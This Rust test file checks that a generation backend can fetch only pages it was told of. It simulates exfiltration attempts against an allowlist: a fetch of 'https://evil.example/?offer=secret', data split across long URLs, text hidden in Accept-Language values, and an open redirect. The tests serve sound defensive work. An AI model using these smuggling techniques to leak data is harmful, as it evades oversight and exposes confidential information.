//! Tests of the pages that a backend may fetch: those that input, settings and earlier answers told it of.

use std::sync::Arc;

use gtm_domain::JobStatus;
use gtm_domain::receipt::Receipt;
use gtm_engine::Workers;
use gtm_engine::job_types::{JobTypeEntry, playbooks};
use gtm_engine::plan::{PlannedRole, Role};
use gtm_runtime::{ConnectorOutcome, PluginError, PluginKind};
use serde_json::{Value, json};

use crate::harness::{Harness, Victim};
use crate::replays::reader;
use crate::scripted::{
    Answer, COMPANION, Script, ScriptedConnectors, answers, ask, complete, completion, draft,
    fetch, page, script,
};

const HOME: &str = "https://acme.example/";
const NEWS: &str = "https://news.example/acme?from=home";
const EVIL: &str = "https://evil.example/";

/// The home page links to the news, and a model repeats what it is asked to.
fn provider() -> Answer {
    answers(|call| async move {
        let url = call.input["url"].as_str().unwrap().to_owned();
        if call.capability == "model.complete" {
            return completion(&url, 1, 1);
        }
        let mut outcome: ConnectorOutcome = page(&url, "<p>This is the page.</p>");
        if let (Ok(output), true) = (&mut outcome.result, url == HOME) {
            output["links"] = json!([{ "url": NEWS, "text": "In the news" }]);
        }
        outcome
    })
}

async fn harness() -> Harness {
    let mut harness = Harness::new(ScriptedConnectors::new(provider())).await;
    harness.free_urls = false;
    harness
}

/// Makes the lists of calls in sequence; the draft's summary is their outcomes, with the codes of refusals.
fn asking(lists: Vec<Vec<gtm_runtime::CapabilityCall>>) -> Script {
    script(move |host, _| {
        let lists = lists.clone();
        async move {
            let mut seen = Vec::new();
            let mut receipt = Value::Null;
            for list in lists {
                for answer in ask(&host, list).await? {
                    match answer {
                        Ok(output) => {
                            if receipt.is_null() {
                                receipt = output["receipt_id"].clone();
                            }
                            seen.push("ok".to_owned());
                        }
                        Err(failure) => seen.push(failure.code),
                    }
                }
            }
            Ok::<Value, PluginError>(draft(&seen.join(" "), &receipt, "This is the page."))
        }
    })
}

/// What the backend saw, read from the journal: the host keeps the summary only if a page supports it.
async fn asked(harness: &Harness) -> Vec<String> {
    let calls = harness.connectors.calls.borrow();
    calls
        .iter()
        .filter(|(capability, ..)| capability == "web.fetch")
        .map(|(_, input, _)| input["url"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn a_backend_fetches_what_it_was_told_of_and_nothing_else() {
    let harness = harness().await;
    let long = format!("{HOME}?{}", "q".repeat(400));
    let lists = vec![
        // Calls in one list reveal nothing to each other, whatever the order of the answers.
        vec![fetch(HOME), fetch(NEWS), fetch(EVIL), fetch(&long)],
        vec![
            fetch(NEWS),
            fetch(EVIL),
            fetch("https://www.acme.example/about"),
        ],
        vec![complete(EVIL, 16)],
        vec![fetch(EVIL), fetch("https://evil.example/?offer=secret")],
    ];
    let job = harness.run(asking(lists.clone())).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    let mut fetched = asked(&harness).await;
    fetched.sort();
    assert_eq!(fetched, [HOME, NEWS, "https://www.acme.example/about"]);

    // The journal gives the same answers, without a call.
    let before = harness.connectors.total();
    let engine = harness.engine(asking(lists));
    let report = engine
        .replay(job.clone(), reader(&harness, &job))
        .await
        .unwrap();
    assert!(report.is_same(), "{report:?}");
    assert_eq!(harness.connectors.total(), before);
}

#[tokio::test]
async fn a_connector_is_handed_the_address_that_was_judged() {
    let harness = harness().await;
    let offer = "the-offer-".repeat(100);
    let lists = vec![vec![
        fetch(&format!("{HOME}#{offer}")),
        fetch(&format!("{HOME}{offer}/../about")),
    ]];
    let job = harness.run(asking(lists.clone())).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    let mut fetched = asked(&harness).await;
    fetched.sort();
    assert_eq!(fetched, [HOME.to_owned(), format!("{HOME}about")]);

    // The journal keeps the backend's own text, so that a later run requests the same.
    let engine = harness.engine(asking(lists));
    let report = engine
        .replay(job.clone(), reader(&harness, &job))
        .await
        .unwrap();
    assert!(report.is_same(), "{report:?}");
}

#[tokio::test]
async fn what_a_backend_makes_up_is_bounded_for_the_whole_job() {
    let mut harness = harness().await;
    harness.config.max_calls = 500;
    // An offer in pieces, each within the limit of one call.
    let pieces: Vec<Vec<gtm_runtime::CapabilityCall>> = (0..40)
        .map(|n| vec![fetch(&format!("{HOME}{n:0>220}"))])
        .collect();
    let mut lists = pieces.clone();
    lists.push(vec![fetch(HOME)]);
    lists.push(vec![fetch(NEWS)]);
    let job = harness.run(asking(lists.clone())).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    let fetched = asked(&harness).await;
    let made_up = fetched.iter().filter(|url| url.len() > 200).count();
    assert_eq!(made_up, 4096 / 221);
    assert!(fetched.contains(&HOME.to_owned()) && fetched.contains(&NEWS.to_owned()));

    // The journal gives the same answers, without a call.
    let before = harness.connectors.total();
    let engine = harness.engine(asking(lists));
    let report = engine
        .replay(job.clone(), reader(&harness, &job))
        .await
        .unwrap();
    assert!(report.is_same(), "{report:?}");
    assert_eq!(harness.connectors.total(), before);
}

fn in_language(url: &str, language: &str) -> gtm_runtime::CapabilityCall {
    let mut call = fetch(url);
    call.input["accept_language"] = json!(language);
    call
}

#[tokio::test]
async fn a_language_says_no_more_than_languages() {
    let harness = harness().await;
    let mut lists = vec![
        vec![in_language(HOME, "de-CH, de;q=0.9, *;q=0.1")],
        vec![in_language(HOME, "the brief says tanks")],
    ];
    // Well-formed, and yet a text in pieces.
    for n in 0..120 {
        lists.push(vec![in_language(
            HOME,
            &format!("de-x-{n:0>8}-tankstan-kstankst-ankstank-stanks"),
        )]);
    }
    let job = harness.run(asking(lists)).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    let calls = harness.connectors.calls.borrow();
    let languages: Vec<&str> = calls
        .iter()
        .filter_map(|(_, input, _)| input["accept_language"].as_str())
        .collect();
    assert_eq!(languages[0], "de-CH, de;q=0.9, *;q=0.1");
    assert!(!languages.contains(&"the brief says tanks"));
    let bytes: usize = languages.iter().map(|language| language.len()).sum();
    assert!(bytes <= 4096 && bytes > 3_900, "{bytes}");
}

#[tokio::test]
async fn a_redirect_tells_of_no_host() {
    let harness = harness().await;
    let open_redirect = answers(|call| async move {
        let url = call.input["url"].as_str().unwrap().to_owned();
        let mut outcome = page(&url, "<p>This is the page.</p>");
        if let Ok(output) = &mut outcome.result {
            output["final_url"] = json!(EVIL);
        }
        outcome
    });
    *harness.connectors.answer.lock().unwrap() = open_redirect;
    let go = format!("{HOME}go?to={EVIL}");
    let lists = vec![vec![fetch(&go)], vec![fetch(EVIL)]];
    let job = harness.run(asking(lists)).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    assert_eq!(asked(&harness).await, [go]);
}

#[tokio::test]
async fn the_grant_is_pinned_with_the_job() {
    let mut harness = harness().await;
    let lists = vec![vec![fetch(HOME)], vec![fetch(EVIL)]];
    harness.free_urls = true;
    let job = harness.run(asking(lists.clone())).await;
    assert_eq!(job.pins["free_urls"], true);
    assert_eq!(asked(&harness).await, [HOME, EVIL]);
    // The operator revokes the grant: jobs that had it still replay, new ones run without it.
    harness.free_urls = false;
    let engine = harness.engine(asking(lists.clone()));
    let report = engine
        .replay(job.clone(), reader(&harness, &job))
        .await
        .unwrap();
    assert!(report.is_same(), "{report:?}");
    let job = harness.run(asking(lists)).await;
    assert_eq!(job.pins["free_urls"], false);
    assert_eq!(asked(&harness).await, [HOME, EVIL, HOME]);
}

#[tokio::test]
async fn a_revoked_grant_is_no_longer_of_use_to_jobs_that_had_it() {
    let mut harness = harness().await;
    let lists = vec![vec![fetch(HOME)], vec![fetch(EVIL)]];
    harness.free_urls = true;
    let id = harness.create(&harness.engine(asking(lists.clone()))).await;
    harness.free_urls = false;
    let workers = Workers::start(&harness.engine(asking(lists)));
    let job = harness.ended(id).await;
    workers.shutdown(std::time::Duration::from_secs(1)).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    assert_eq!(job.pins["free_urls"], true);
    assert_eq!(asked(&harness).await, [HOME]);
}

/// Playbooks with a second pinned backend.
const ACCOMPANIED: &[JobTypeEntry] = &[JobTypeEntry {
    plan: |input| {
        let mut plan = (playbooks::ENTRY.plan)(input);
        plan.roles.push(PlannedRole {
            role: Role::named(COMPANION),
            bound_as: COMPANION,
            kind: PluginKind::GenerationBackend,
            otherwise: None,
        });
        plan
    },
    ..playbooks::ENTRY
}];

#[tokio::test]
async fn a_grant_is_for_one_backend_of_a_job_and_for_no_other() {
    let harness = harness().await;
    harness.bind_backend_for(COMPANION, COMPANION).await;
    let lists = vec![vec![fetch(HOME)], vec![fetch(EVIL)]];
    let engine = harness.engine_of(asking(lists), ACCOMPANIED, Arc::default());
    let id = harness.create(&engine).await;
    let workers = Workers::start(&engine);
    let job = harness.ended(id).await;
    workers.shutdown(std::time::Duration::from_secs(1)).await;
    assert_eq!(job.pins["plugins"][COMPANION]["free_urls"], true);
    assert_eq!(job.pins["free_urls"], false, "the writer's");
    assert_eq!(asked(&harness).await, [HOME]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_resumed_job_is_refused_the_same() {
    let harness = harness().await;
    let hang = answers(|call| async move {
        let url = call.input["url"].as_str().unwrap().to_owned();
        if url == NEWS {
            std::future::pending::<()>().await;
        }
        provider()(call).await
    });
    *harness.connectors.answer.lock().unwrap() = hang;
    let lists = vec![
        vec![fetch(HOME), fetch(EVIL)],
        vec![fetch(EVIL), fetch(NEWS)],
        vec![fetch(HOME)],
    ];
    let engine = harness.engine(asking(lists));
    let id = harness.create(&engine).await;
    let victim = Victim::start(engine.clone());
    harness.connectors.asked_for(NEWS, 1).await;
    victim.kill();
    *harness.connectors.answer.lock().unwrap() = provider();
    let workers = Workers::start(&engine);
    let job = harness.ended(id).await;
    workers.shutdown(std::time::Duration::from_secs(1)).await;
    assert_eq!(job.status, JobStatus::Succeeded, "{:?}", job.error);
    assert_eq!(
        (
            harness.connectors.count(NEWS),
            harness.connectors.count(EVIL)
        ),
        (2, 0)
    );
    let receipts: Vec<Receipt> = harness
        .store
        .operator()
        .job_receipts(id)
        .await
        .unwrap()
        .into_iter()
        .map(|r| r.receipt)
        .collect();
    assert!(receipts.iter().all(|r| r.host != "evil.example"));
}
